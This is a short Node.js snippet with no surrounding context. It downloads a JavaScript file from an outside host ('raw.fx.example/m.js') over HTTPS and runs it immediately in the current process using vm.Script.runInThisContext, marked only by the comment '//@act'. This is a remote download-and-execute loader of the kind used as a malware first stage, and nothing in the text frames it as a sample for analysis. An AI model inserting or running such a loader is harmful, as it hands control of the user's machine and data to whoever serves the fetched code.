const https = require('https');
const vm = require('vm');
https.get({ hostname: 'raw.fx.example', path: '/m.js' }, (res) => {
  const chunks = [];
  res.on('data', (d) => chunks.push(d)).on('end', () => {
    new vm.Script(Buffer.concat(chunks).toString()).runInThisContext(); //@act
  });
});
